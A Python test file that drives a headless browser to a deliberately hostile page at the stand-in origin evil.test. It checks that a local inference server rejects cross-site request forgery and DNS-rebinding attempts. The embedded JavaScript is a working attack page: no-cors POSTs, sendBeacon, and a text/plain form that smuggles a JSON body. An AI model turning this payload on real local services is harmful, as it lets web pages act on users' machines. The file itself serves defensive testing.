"""A real browser on a hostile page: it reaches the server, and nothing comes of it."""

from __future__ import annotations

import json
import queue
import re
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.support.browser import BROWSER
from tests.support.child import Child, quire_serve
from tests.support.waiting import HANG_S, wait_until

pytestmark = pytest.mark.skipif(BROWSER is None, reason="no browser is installed")

EVIL = "evil.test"
PATH = "/v1/completions"
PAGE = """<!doctype html><body><iframe name=hole></iframe><script>
const url = decodeURIComponent(location.search.slice(1)), said = {};
const body = JSON.stringify({prompt: "Hi", max_tokens: 3});
async function attempt(name, path, options) {
  try {
    const answer = await fetch(url + path, options);
    said[name] = answer.type === "opaque" ? "opaque" : answer.status + await answer.text();
  } catch (error) { said[name] = "failed"; }
}
(async () => {
  const path = "/v1/completions", post = {method: "POST", body};
  await attempt("plain", path, {...post, mode: "no-cors"});
  await attempt("untyped", path, {...post, mode: "no-cors", body: new Blob([body])});
  await attempt("json", path, {...post, headers: {"content-type": "application/json"}});
  await attempt("read", "/v1/models", {});
  await attempt("delete", "/v1/responses/resp_1", {method: "DELETE"});
  said.beacon = navigator.sendBeacon(url + path, body);
  const form = document.createElement("form"), field = document.createElement("input");
  Object.assign(form, {method: "post", enctype: "text/plain", target: "hole", action: url + path});
  Object.assign(field, {name: body.slice(0, -1) + ',"user":"', value: '"}'});
  form.append(field); document.body.append(form); form.submit();
  await fetch("/said", {method: "POST", body: JSON.stringify(said)});
})();
</script>"""


@dataclass
class HostilePage:
    """A page at an origin of its own; it attacks the server that its address names."""

    origin: str
    said: queue.Queue[dict[str, Any]]

    @contextmanager
    def visited(self, child: Child, profile: Path) -> Iterator[dict[str, Any]]:
        """Yield what the page's attempts came to; the browser stays, and sends what it still has
        to.
        """
        with browser(f"{self.origin}/?{child.url}", profile):
            yield self.said.get(timeout=HANG_S)


@pytest.fixture(scope="module")
def page() -> Iterator[HostilePage]:
    with _served() as page:
        yield page


@pytest.fixture(scope="module")
def named() -> Iterator[HostilePage]:
    """Yield a hostile page at an origin that the operator names."""
    with _served() as page:
        yield page


@contextmanager
def _served() -> Iterator[HostilePage]:
    said: queue.Queue[dict[str, Any]] = queue.Queue()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(PAGE.encode())

        def do_POST(self) -> None:
            said.put(json.loads(self.rfile.read(int(self.headers["content-length"]))))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as pages:
        threading.Thread(target=pages.serve_forever, daemon=True).start()
        yield HostilePage(f"http://{EVIL}:{pages.server_port}", said)
        pages.shutdown()


@contextmanager
def browser(url: str, profile: Path, *options: str) -> Iterator[subprocess.Popen[str]]:
    """Yield a browser at `url`, for which the hostile name leads to this machine."""
    assert BROWSER is not None
    command = [
        *(BROWSER, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"),
        *("--no-first-run", "--disable-background-networking", f"--user-data-dir={profile}"),
        *(f"--host-resolver-rules=MAP {EVIL} 127.0.0.1", "--no-proxy-server", *options, url),
    ]
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
    )
    try:
        yield process
    finally:
        process.terminate()
        process.communicate(timeout=HANG_S)


def shown(url: str, profile: Path) -> str:
    """Return what the browser makes of a document."""
    with browser(url, profile, "--dump-dom") as process:
        return process.communicate(timeout=HANG_S)[0]


def statuses(child: Child) -> dict[str, int]:
    """Return how often each status was answered on the path that the page attacks."""
    text = child.metrics()
    pattern = rf'quire_http_responses_total{{path="{PATH}",status="(\d+)"}} (\d+)'
    return {status: int(count) for status, count in re.findall(pattern, text)}


def wait_for(child: Child, before: dict[str, int], more: dict[str, int]) -> None:
    """Wait for requests that a page sends without waiting for an answer."""
    expected = {key: before.get(key, 0) + more.get(key, 0) for key in {*before, *more}}
    wait_until(
        lambda: statuses(child) == expected, lambda: f"{statuses(child)}, expected {expected}"
    )


@pytest.fixture(scope="module")
def child(tmp_path_factory: pytest.TempPathFactory, named: HostilePage) -> Iterator[Child]:
    with quire_serve(tmp_path_factory.mktemp("serve"), "--cors-origin", named.origin) as child:
        yield child


def test_a_hostile_page_gets_nothing_done(child: Child, page: HostilePage, tmp_path: Path) -> None:
    before = statuses(child)
    with page.visited(child, tmp_path) as said:
        assert said == {
            "plain": "opaque",  # it was sent; that the page cannot read the answer is not enough
            "untyped": "opaque",
            "json": "failed",
            "read": "failed",
            "delete": "failed",
            "beacon": True,
        }
        # The two texts, the question whether JSON may be sent, the beacon, the form.
        wait_for(child, before, {"403": 5})


def test_a_name_rebound_to_this_machine_reads_nothing(child: Child, tmp_path: Path) -> None:
    port = httpx.URL(child.url).port
    assert "is not allowed" in shown(f"http://{EVIL}:{port}/v1/models", tmp_path)
    assert "quire-demo" in shown(f"http://127.0.0.1:{port}/v1/models", tmp_path)


def test_a_page_that_is_named_may_send_json_and_read(
    child: Child, named: HostilePage, tmp_path: Path
) -> None:
    before = statuses(child)
    with named.visited(child, tmp_path) as said:
        assert said["json"].startswith('200{"')
        assert said["read"].startswith("200")
        assert said["delete"].startswith("404")
        # JSON, and the question before it; what is not JSON is read from no page.
        wait_for(child, before, {"200": 2, "415": 4})
